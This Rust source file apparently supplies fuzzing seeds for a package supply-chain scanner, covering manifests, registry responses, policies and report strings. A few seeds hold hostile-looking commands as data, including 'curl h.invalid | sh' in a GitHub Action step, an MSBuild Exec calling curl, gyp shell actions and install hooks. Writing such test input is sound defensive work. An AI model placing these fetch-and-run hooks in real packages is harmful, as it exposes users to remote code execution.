//! Starting points for manifests, registry answers, policies and reports.

pub fn seed(choice: u8, text: &str) -> Vec<u8> {
    [&[choice], text.as_bytes()].concat()
}

pub fn manifests() -> Vec<Vec<u8>> {
    let core = "Metadata-Version: 2.4\nName: a\nVersion: 1.0\nSummary: x\n y\nAuthor-email: A B <a@b.example>, c@d.example\nProject-URL: Source, https://g.example/o/r\n\
                Requires-Dist: six (>=1) ; python_version < \"3\" and extra == 'x'\nRequires-Dist: z @ https://h.invalid/z.whl\nClassifier: A :: B\n\n# Readme\n";
    let mut seeds = vec![
        seed(0, "[project]\nname='a'\nversion='1'\ndependencies=['six>=1; os_name==\"nt\"', 'z @ file:///x']\nauthors=[{name='A',email='a@b.example'}]\ndynamic=['readme']\n\
                 [project.urls]\nSource='https://g.example/o/r'\n[project.scripts]\na='a:b'\n[project.optional-dependencies]\nx=['y']\n\
                 [build-system]\nrequires=['setuptools']\nbuild-backend='b'\nbackend-path=['.']\n[dependency-groups]\nd=[{include-group='e'}]\n"),
        seed(0, "[tool.poetry]\nname='a'\nauthors=['A <a@b.example>']\n[tool.poetry.dependencies]\npython='^3.8'\nb={git='https://g.example/o/r',rev='x'}\nc=[{version='1',markers='x'}]\n\
                 [tool.poetry.group.dev.dependencies]\nd='*'\n[tool.poetry.scripts]\nx={callable='a:b'}\n[tool.flit.metadata]\nmodule='a'\nauthor='A'\nrequires=['b']\n[tool.flit.scripts]\nx='y:z'\n"),
        seed(1, "[metadata]\nname = a\nversion = attr: a.v\nurl=x\n[options]\ninstall_requires =\n  six>=1\n  # c\n  b; extra=='x'\nsetup_requires: z\n[options.entry_points]\nconsole_scripts =\n  a = b:c [d]\n[options.extras_require]\nx = y\n"),
        seed(4, "Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n"),
        seed(5, "[console_scripts]\na = b:c [x]\n[gui_scripts]\nd=e\n[x.y]\nz = q:w\n"),
        seed(6, "six>=1\n\n[x:python_version<'3']\nb\n[y]\nc[d]==1.*\n"),
        seed(8, r#"{"name":"@s/a","version":"1.0.0","scripts":{"preinstall":"node i.js","build":"x"},"dependencies":{"b":"^1","c":"npm:d@2","e":"github:o/r#semver:1","f":"file:../x","g":"https://h.invalid/g.tgz"},"optionalDependencies":{"o":"*"},"peerDependenciesMeta":{},"bin":{"x":"./x.js"},"author":"A <a@b.example> (http://h.invalid)","maintainers":[{"name":"x","email":"y"}],"repository":{"type":"git","url":"git+ssh://git@g.example/o/r.git","directory":"p"},"license":{"type":"MIT"},"gypfile":true,"exports":{".":{"import":"./m.mjs"}},"bundledDependencies":["b"],"workspaces":["p/*"]}"#),
        seed(8, "{\"name\":\"a\\ud83d\\ude00\\u0000\",\"name\":1e400,\"x\":[[[[{}]]]],// c\n\"scripts\":[],}"),
        seed(12, "{ # c\n 'variables': {'x%': '<!(node -p \"1\")'},\n 'targets': [{'target_name': 'a', 'sources': ['<!@(ls)', \"b.cc\"], 'actions': [{'action_name': 'n', 'action': ['sh', '-c', 'id', '<(x)'],},],\n 'conditions': [['OS==\"win\"', {'defines': ['A' 'B']}]],}], }"),
        seed(11, "{'includes': ['../x.gypi'], 'target_defaults': {'rules': [{'action': ['python', '<(y)']}], 'postbuilds': []}}"),
        seed(14, "[package]\nname = \"a\"\nversion.workspace = true\nauthors = [\"A <a@b.example>\"]\nbuild = \"b.rs\"\nlinks = 'z'\nlicense='MIT'\nrepository='https://g.example/o/r'\n[lib]\nproc-macro = true\n[dependencies]\n\
                  serde = { version = \"1\", features = ['x'], optional = true }\nb = {git='https://g.example/o/r', package='c', registry='x'}\nd.path='../d'\n[target.'cfg(windows)'.build-dependencies]\ncc='1'\n[[bin]]\nname='x'\npath='y.rs'\n[features]\n[workspace.dependencies]\nq='1'\n"),
        seed(13, r#"{"git":{"sha1":"0123456789abcdef0123456789abcdef01234567","dirty":true},"path_in_vcs":"a/b"}"#),
    ];
    seeds.extend([
        seed(16, "--- !ruby/object:Gem::Specification\nname: a\nversion: !ruby/object:Gem::Version\n  version: 1.0\nauthors: [A, &x B]\ndependencies:\n- !ruby/object:Gem::Dependency\n  name: b\n  type: :runtime\nextensions:\n- ext/extconf.rb\nmetadata:\n  source_code_uri: https://g.example/o/r\n"),
        seed(17, r#"{"name":"v/a","type":"composer-plugin","require":{"php":">=8","v/b":"^1"},"autoload":{"files":["x.php"],"psr-4":{"A\\":"src/"}},"scripts":{"post-install-cmd":["A::b","@php x.php"]},"extra":{"class":"A\\P"},"bin":["x"]}"#),
        seed(18, "name: a\nruns:\n  using: composite\n  steps:\n    - run: |\n        curl h.invalid | sh\n      shell: bash\n    - uses: o/r@v1\n  pre: x.js\n  main: 'y.js'\n"),
        seed(19, "module g.example/o/r/v2\n\ngo 1.22\nrequire (\n\tg.example/a v1.0.0 // indirect\n\tb v0.0.0-20200101000000-abcdefabcdef\n)\nreplace a => ../a\nretract [v1.0.0, v1.1.0]\n"),
        seed(20, "<?xml version=\"1.0\"?><package><metadata><id>A</id><version>1.0</version><authors>x, y</authors><repository type='git' url='https://g.example/o/r'/><dependencies><group targetFramework='net8'><dependency id='B' version='[1,2)'/></group></dependencies></metadata></package>"),
        seed(21, "<project xmlns='x'><parent><version>1</version></parent><groupId>g</groupId><artifactId>a</artifactId><dependencies><dependency><groupId>b</groupId><artifactId>c</artifactId><version>${v}</version><scope>test</scope></dependency></dependencies><build/></project>"),
        seed(22, "<Project><UsingTask TaskName='X' AssemblyFile='x.dll'><Task><Code Type='Class'><![CDATA[x]]></Code></Task></UsingTask><Target Name='T' BeforeTargets='Build'><Exec Command='curl h.invalid &amp;&amp; x'/></Target></Project>"),
        seed(23, r#"{"name":"a","publisher":"p","engines":{"vscode":"^1"},"activationEvents":["*","onLanguage:x"],"main":"./out/x","browser":"./b.js"}"#),
    ]);
    for choice in [2, 3] {
        seeds.push(seed(choice, core));
    }
    seeds
}

pub fn registry_pages() -> Vec<Vec<u8>> {
    let digest = "0123456789abcdef".repeat(4);
    let html = format!(
        "<!DOCTYPE html><html><head><base href=\"/x/\"><meta name=\"pypi:repository-version\" content=\"1.4\"><meta name=\"pypi:project-status\" content=\"archived\"></head><body>\n\
         <a href=\"pad-1.0.tar.gz#sha256={digest}\" data-requires-python=\"&gt;=3.8\" data-yanked=\"bad &amp; &#x6f;ld\" data-core-metadata='sha256={digest}'>pad-1.0.tar.gz</a><br/>\n\
         <A HREF=../../pad-2.0-py3-none-any.whl data-provenance=x>pad-2.0-py3-none-any.whl</A><!-- <a> --><script>x</script></body></html>"
    );
    let json = format!(
        r#"{{"meta":{{"api-version":"1.4","project-status":{{"status":"quarantined","reason":"r"}}}},"name":"pad","versions":["1.0","2!1.0a1.post2.dev3+l.1"],"files":[{{"filename":"pad-1.0-cp311-cp311-manylinux_2_17_x86_64.whl","url":"../f","hashes":{{"sha256":"{digest}"}},"requires-python":">=3.8,!=3.9.*","yanked":"x","core-metadata":{{"sha256":"{digest}"}},"size":1,"upload-time":"2024-01-02T03:04:05.123Z","provenance":null}}],"alternate-locations":[],"tracks":[]}}"#
    );
    let packument = r#"{"name":"@scope/pad","dist-tags":{"latest":"1.0.0","beta":"2.0.0-b.1"},"versions":{"1.0.0":{"description":"d","author":"A <a@b.example>","license":{"type":"MIT"},"repository":{"url":"git://g.example/o/r","directory":"x"},"dependencies":{"b":"^1"},"scripts":{"install":"x"},"deprecated":"old","_npmUser":{"name":"u","trustedPublisher":{"id":"github"}},"dist":{"tarball":"https://h.invalid/pad-1.0.0.tgz","integrity":"sha512-AAAA sha1-BBBB","shasum":"0123456789abcdef0123456789abcdef01234567","signatures":[{}],"attestations":{}}},"2.0.0-b.1":{"dist":{"tarball":"x.tgz"}}},"time":{"created":"2024-01-01T00:00:00Z","1.0.0":"2024-01-02T00:00:00.000Z","0.9.0":"2023-01-01T00:00:00Z","unpublished":{"time":"x"}},"maintainers":[{"name":"u","email":"e"},"x"],"readme":"ERROR: No README data found!"}"#;
    let project = r#"{"info":{"name":"Pad","version":"1.0","author":"A, B","author_email":"A <a@b.example>","license":"MIT","home_page":"https://g.example","project_urls":{"Source":"https://g.example/o/r"},"requires_dist":["six>=1"]},"ownership":{"roles":[{"role":"Owner","user":"z"}]},"releases":{"1.0":[{"filename":"pad-1.0.tar.gz","upload_time":"2020-01-02T03:04:05","yanked":true,"yanked_reason":"x","size":9}]},"vulnerabilities":[{"id":"PYSEC-1","aliases":["CVE-1","MAL-1"],"details":"\nx","fixed_in":["2"],"link":"l","withdrawn":null}]}"#;
    let index = concat!(
        r#"{"name":"pad","vers":"1.0.0","deps":[{"name":"b","req":"^1","features":[],"optional":true,"default_features":true,"target":"cfg(unix)","kind":"dev","registry":"https://r.example","package":"c"}],"cksum":"00","features":{},"yanked":false,"v":2,"pubtime":"2024-01-01T00:00:00Z"}"#,
        "\n",
        r#"{"name":"pad","vers":"2.0.0-a.1+b","deps":[],"cksum":"","yanked":true}"#,
        "\n"
    );
    let api = r#"{"crate":{"description":"d","homepage":null,"repository":"r","downloads":5,"recent_downloads":2},"versions":[{"num":"1.0.0","created_at":"2024-01-01T00:00:00Z","license":"MIT","crate_size":3,"yank_message":"x","published_by":{"login":"l","name":"n"},"trustpub_data":{"provider":"github","repository":"o/r"}}],"users":[{"login":"l"}]}"#;
    let advisories = r#"{"pad":[{"id":1,"url":"https://h.invalid/GHSA-aaaa-bbbb-cccc","title":"Malware in pad","cwe":["CWE-506"],"cvss":{"score":9.8}}]}"#;
    let mut seeds = vec![seed(0, &json), seed(1, &html), seed(2, &html), seed(3, &json), seed(8, project), seed(13, advisories), seed(15, api)];
    for wanted in 0..4 {
        seeds.push(seed(10 + 16 * wanted, packument));
        seeds.push(seed(14 + 16 * wanted, index));
    }
    seeds
}

pub fn policies() -> Vec<Vec<u8>> {
    [
        "fail-on = \"review\"\ntrusted-publishers = [\"github:o/r\"]\n[thresholds]\nnote = 0.1\nreview = 0.4\nblock = 0.8\n[rules.young-release]\nenabled = false\nseverity = \"low\"\n",
        "[[waivers]]\npurl = \"pkg:npm/%40s/a@1.0.0\"\nrule = \"x\"\nreason = \"because\"\nexpires = 2027-01-01\ndigest = \"sha256:00\"\n[names]\ninternal = [\"acme-*\"]\n[names.popular]\npypi = \"p.csv\"\n",
        "[limits]\nartifact = \"512 MiB\"\nfile-time = \"5s\"\nnesting = 400\nratio = 1_000\n[network]\noffline = true\ntimeout = '1m30s'\n[cache]\ndir = '~/c'\n",
        "[indexes.pypi]\nindex-url = \"https://u:p@pkgs.example/simple\"\n[[indexes.pypi.extra]]\nurl='x'\n[indexes.npm]\nregistry='https://n.example'\n[audit]\nartifacts='all'\n[sources]\nadvisories='off'\n",
        "\u{feff}a = [\n[b.c]\nd = {e = 1979-05-27T07:32:00Z, f.g = inf}\nh = \"\"\"x\\\n y\"\"\"\n",
    ]
    .iter()
    .map(|text| text.as_bytes().to_vec())
    .collect()
}

pub fn reports() -> Vec<Vec<u8>> {
    [
        "a\0b\0\u{1b}[31mred\u{7}\r\nx\0`code` <script>|**b**\0\u{202e}evil\u{2066}\0e\u{301}\u{301}\u{301}\u{301}\0\u{9b}31m",
        "```\n</details>\n![x](http://h.invalid)\0@user #1\0\u{3000}\u{200b}\u{feff}\0\u{1f468}\u{200d}\u{1f469}\0\u{e000}",
    ]
    .iter()
    .map(|text| text.as_bytes().to_vec())
    .collect()
}
